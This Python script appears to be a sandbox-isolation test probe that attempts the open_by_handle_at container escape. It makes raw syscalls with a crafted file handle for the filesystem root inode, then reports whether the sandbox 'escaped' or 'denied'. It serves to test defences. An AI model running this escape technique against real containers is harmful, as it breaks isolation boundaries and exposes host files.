import json, os, sys

INP = json.loads(sys.stdin.read() or "{}")


def emit(outcome, detail):
    sys.stdout.write(json.dumps({"outcome": outcome, "detail": str(detail)[:2000]}) + "\n")
    sys.stdout.flush()
    os._exit(0)


def denied(detail):
    emit("denied", detail)


def escaped(detail):
    emit("escaped", detail)


def err(e):
    if isinstance(e, OSError) and e.errno:
        import errno
        return errno.errorcode.get(e.errno, str(e.errno))
    return "%s: %s" % (type(e).__name__, e)

import ctypes
import errno as _errno

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def sc(nr, *args):
    """Raw syscall: returns (result, errno name or None)."""
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *conv)
    e = ctypes.get_errno()
    return r, (_errno.errorcode.get(e, str(e)) if r < 0 else None)

import struct
AT_FDCWD = -100
buf = ctypes.create_string_buffer(8 + 128)
struct.pack_into("=Ii", buf, 0, 128, 0)
mnt = ctypes.c_int(-1)
notes = []
r, e = sc(303, AT_FDCWD, b"/usr", buf, ctypes.byref(mnt), 0)  # name_to_handle_at
notes.append("name_to_handle_at(/usr) = %s %s" % (r, e or ""))
crafted = ctypes.create_string_buffer(8 + 8)
struct.pack_into("=IiII", crafted, 0, 8, 1, 2, 0)  # FILEID_INO32_GEN, inode 2 = fs root
dfd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
for label, h in (("crafted root inode", crafted), ("own handle", buf)):
    fd, e = sc(304, dfd, h, os.O_RDONLY | os.O_DIRECTORY)  # open_by_handle_at
    if fd >= 0:
        try:
            ents = os.listdir("/proc/self/fd/%d" % fd)
        except OSError as x:
            ents = err(x)
        escaped("open_by_handle_at(%s) gave fd %d: %s" % (label, fd, str(ents)[:300]))
    notes.append("open_by_handle_at(%s): %s" % (label, e))
denied("; ".join(notes))
